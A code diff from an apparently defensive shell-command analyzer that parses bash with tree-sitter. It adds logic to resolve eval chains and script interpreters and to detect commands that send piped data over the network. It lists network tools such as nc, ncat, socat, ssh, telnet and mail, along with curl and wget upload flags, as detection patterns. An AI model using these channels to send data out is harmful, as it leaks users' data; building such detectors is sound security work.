     global _name_query, _word_query
     import tree_sitter
 
@@ -1377,12 +1721,16 @@ def _blank_misparsed_keywords(data: bytes, tree: Any) -> Any:
                 spans.append((node.start_byte + 1, node.start_byte + 3, quoted))
         if not spans:
             break
+        # the spans cover ASCII bytes only, which are the same in both buffers
         buf = bytearray(data)
+        orig = bytearray(original)
         for start, end, replacement in sorted(spans, reverse=True):
             buf[start:end] = replacement
+            orig[start:end] = replacement
         data = bytes(buf)
+        original = bytes(orig)
         tree = _get_parser().parse(data)
-    return tree
+    return tree, original
 
 
 def _in_backticks(node: Node) -> bool:
@@ -1428,14 +1776,67 @@ def _misread_keyword(word_node: Node) -> list[tuple[int, int]]:
     return []
 
 
-def _stage_name(node: Node) -> str:
+_EVAL_PREFIX = frozenset({"eval", "builtin", "command", "exec", "nohup", "time"})
+
+
+def _eval_chain(argv: list[str]) -> int:
+    """How many nested sources an ``eval`` command leads to: one per ``eval`` in its run of
+    leading ``eval``/``builtin``/``command``… words (``eval eval eval cmd`` is three).
+
+    Counted before anything is re-parsed, so that a long chain fails at once instead of
+    re-parsing the whole text at every level.
+    """
+    count = 0
+    for word in argv:
+        if word not in _EVAL_PREFIX:
+            break
+        count += word == "eval"
+    return count
+
+
+def _positional(argv: list[str], dynamic: set[int], idx: int) -> dict[str, str | None]:
+    """``$1``… of a script run as ``argv[idx]`` with the arguments after it."""
+    return {str(k): (None if idx + k in dynamic else a) for k, a in enumerate(argv[idx + 1 : idx + 10], start=1)}
+
+
+def _is_binary(head: bytes) -> bool:
+    """An executable format the kernel runs itself (ELF, Mach-O...), or data: not a script."""
+    return head.startswith(b"\x7fELF") or b"\0" in head
+
+
+def _script_language(text: str) -> str | None:
+    """How a file run directly is interpreted: ``"sh"`` for a shell (or no ``#!`` line:
+    bash runs such a file itself), an :mod:`~ringfence.analyze.interp` language, or
+    ``None`` for an interpreter the analysis does not know."""
+    if not text.startswith("#!"):
+        return "sh"
+    words = text[2:].split("\n", 1)[0].split()
+    if words and words[0].rsplit("/", 1)[-1] == "env":
+        words = words[1:]
+        while words and (words[0].startswith("-") or "=" in words[0]):
+            flag = words.pop(0)
+            if flag.startswith("-S") and len(flag) > 2:
+                words.insert(0, flag[2:])  # -Sbash
+            elif flag in ("-u", "--unset", "-C", "--chdir") and words:
+                words.pop(0)
+    if not words:
+        return "sh" if text[2:].split("\n", 1)[0].strip() == "" else None
+    name = words[0].rsplit("/", 1)[-1]
+    if name in unwrap.SHELLS:
+        return "sh"
+    from ringfence.analyze import interp
+
+    return interp.script_language(name)
+
+
+def _stage_name(node: Node, src: bytes) -> str:
     cur: Node | None = node
     while cur is not None and cur.type == "redirected_statement":
         cur = cur.child_by_field_name("body")
     if cur is not None and cur.type == "command":
         name = cur.child_by_field_name("name")
         if name is not None:
-            return _unescape_word(_text(name)).strip("'\"").rsplit("/", 1)[-1]
+            return _unescape_word(_text(name, src)).strip("'\"").rsplit("/", 1)[-1]
     return ""
 
 
@@ -1554,6 +1955,146 @@ def _safe_split(s: str) -> list[str]:
         return s.split()
 
 
+def _targets(e: Effect) -> tuple[str, ...]:
+    targets = e.attrs.get("targets")
+    return targets if isinstance(targets, tuple) else ()
+
+
+_STDIN_SOCKETS = frozenset({"nc", "ncat", "netcat", "telnet", "ssh", "mail", "mailx", "sendmail", "mutt"})
+_NC_VALUES = frozenset({"-p", "-w", "-s", "-x", "-X", "-i", "-q", "-e", "-c", "-I", "-O", "-T", "-V", "-W"})
+_SSH_VALUES = frozenset(
+    {
+        "-b",
+        "-c",
+        "-D",
+        "-E",
+        "-e",
+        "-F",
+        "-I",
+        "-i",
+        "-J",
+        "-L",
+        "-l",
+        "-m",
+        "-O",
+        "-o",
+        "-p",
+        "-Q",
+        "-R",
+        "-S",
+        "-W",
+        "-w",
+    }
+)
+_CURL_STDIN_BODIES = ("@-", "@/dev/stdin", "@/dev/fd/0")
+
+
+def _stdin_destination(cmd: Command) -> str | None:
+    """Where ``cmd`` sends its standard input over the network, or ``None`` if it does not
+    (``curl -d @-``/``-T -``, ``wget --post-file=-``, httpie, ``nc``/``socat``/``telnet``,
+    ``ssh HOST``, mail, ``scp /dev/stdin HOST:…``, ``aws s3 cp - s3://…``, ``rclone rcat``...)."""
+    name, args = cmd.name, cmd.args
+    if name == "curl":
+        return _curl_url(args) if _curl_sends_stdin(args) else None
+    if name == "wget":
+        for k, a in enumerate(args):
+            opt, eq, value = a.partition("=")
+            if opt in ("--post-file", "--body-file") and (
+                value if eq else (args[k + 1] if k + 1 < len(args) else "")
+            ) in (
+                "-",
+                "/dev/stdin",
+            ):
+                return _curl_url(args)
+        return None
+    if name in ("http", "https", "xh", "xhs"):
+        if "--ignore-stdin" in args or "-I" in args:
+            return None
+        return _curl_url(args)
+    if name in _STDIN_SOCKETS:
+        if name == "ssh" and "-n" in args:
+            return None
+        values = (
+            _SSH_VALUES if name == "ssh" else _NC_VALUES if name in ("nc", "ncat", "netcat", "telnet") else frozenset()
+        )
+        host = _first_operand(args, values)
+        if host is None and name in ("nc", "ncat", "netcat") and any(a.startswith("-") and "l" in a for a in args):
+            return "listener"  # nc -l: served to whoever connects
+        return host
+    if name == "socat":
+        operands = [a for a in args if not a.startswith("-") or a == "-"]
+        remote = [
+            a for a in operands if a.upper().split(":", 1)[0] not in ("-", "STDIN", "STDIO", "OPEN", "FILE", "EXEC")
+        ]
+        return remote[0] if remote else None
+    if name == "openssl" and "s_client" in args:
+        k = args.index("-connect") if "-connect" in args else -1
+        return args[k + 1] if 0 <= k < len(args) - 1 else "s_client"
+    if name in ("scp", "rsync", "sftp") and any(a in ("/dev/stdin", "/dev/fd/0") for a in args):
+        return next((a for a in args if ":" in a and not a.startswith("-")), name)
+    if name == "aws" and args[:2] == ("s3", "cp") and "-" in args[2:4]:
+        return next((a for a in args if a.startswith("s3://")), "s3")
+    if name == "gsutil" and "cp" in args and "-" in args:
+        return next((a for a in args if a.startswith("gs://")), "gs")
+    if name == "rclone" and args[:1] == ("rcat",) and len(args) > 1:
+        return args[1]
+    if name == "gh" and args[:2] == ("gist", "create"):
+        files = [a for a in args[2:] if not a.startswith("-")]
+        return "gist" if not files or "-" in files else None
+    return None
+
+
+def _first_operand(args: tuple[str, ...], with_value: frozenset[str]) -> str | None:
+    skip = False
+    for a in args:
+        if skip:
+            skip = False
+        elif a.startswith("-") and len(a) > 1:
+            skip = a in with_value
+        else:
+            return a
+    return None
+
+
+def _curl_sends_stdin(args: tuple[str, ...]) -> bool:
+    """``-d @-``, ``--data-binary @-``, ``-F f=@-``, ``-T -``, ``--upload-file .``, ``-sd@-``..."""
+    for k, a in enumerate(args):
+        nxt = args[k + 1] if k + 1 < len(args) else ""
+        if a.startswith("--"):
+            if a in ("--upload-file",) and nxt in ("-", ".", "/dev/stdin"):
+                return True
+            if a.startswith(("--data", "--json", "--form")) and _curl_stdin_value(nxt):
+                return True
+            continue
+        if not a.startswith("-"):
+            continue
+        for p, ch in enumerate(a[1:], start=2):
+            if ch in "dFT":
+                value = a[p:] or nxt
+                if (ch == "T" and value in ("-", ".", "/dev/stdin")) or (ch != "T" and _curl_stdin_value(value)):
+                    return True
+                break
+            if ch in _CURL_SHORT_VALUES:
+                break
+    return False
+
+
+def _curl_stdin_value(value: str) -> bool:
+    return (
+        value in _CURL_STDIN_BODIES
+        or value.endswith(("=@-", "=<-", "=@/dev/stdin", "=</dev/stdin"))
+        or (value.endswith("@-") and "=" not in value)
+    )
+
+
+def _curl_url(args: tuple[str, ...]) -> str:
+    url = next((a for a in args if "://" in a), None)
+    if url is not None:
+        return url
+    operands = [a for a in args if not a.startswith(("-", "@")) and "=" not in a and not a.isupper()]
+    return operands[-1] if operands else "(unknown)"
+
+
 _CURL_SHORT_VALUES = frozenset("dHXuAewxmbcFTKECrYyzDoQ")
 _WGET_SHORT_VALUES = frozenset("oaeiBtOTwQPUlARDXI")
 
@@ -1606,7 +2147,7 @@ def _static_output(ran: list[Command], ctx: Context, cwd: str) -> str | None:
         words = [a for a in args if a not in ("-n", "-e", "-E")]
         return " ".join(words) + "\n"
     if name == "printf" and args and "%" not in args[0]:
-        return args[0].replace("\\n", "\n")
+        return args[0].replace("\\n", "\n").replace("\\t", "\t")
     if name == "printf" and args and args[0] in ("%s", "%s\\n", "%s\n"):
         return "".join(args[1:])
     if name in ("which", "type") and args:
@@ -1615,6 +2156,15 @@ def _static_output(ran: list[Command], ctx: Context, cwd: str) -> str | None:
         return args[1]
     if name == "pwd":
         return cwd or ctx.cwd
+    if name in ("dirname", "basename") and len(args) in (1, 2) and not args[0].startswith("-"):
+        # pure string functions: `cd "$(dirname "$0")"` in a script
+        path = args[0].rstrip("/") or "/"
+        if name == "dirname":
+            return (path.rsplit("/", 1)[0] or "/" if "/" in path else ".") + "\n"
+        base = path.rsplit("/", 1)[-1]
+        if len(args) == 2 and base.endswith(args[1]) and base != args[1]:
+            base = base[: -len(args[1])]
+        return base + "\n"
     if name == "git" and "--show-toplevel" in args and ctx.workspace:
         return ctx.workspace
     if name == "cat" and cmd.stdin is not None and not args:
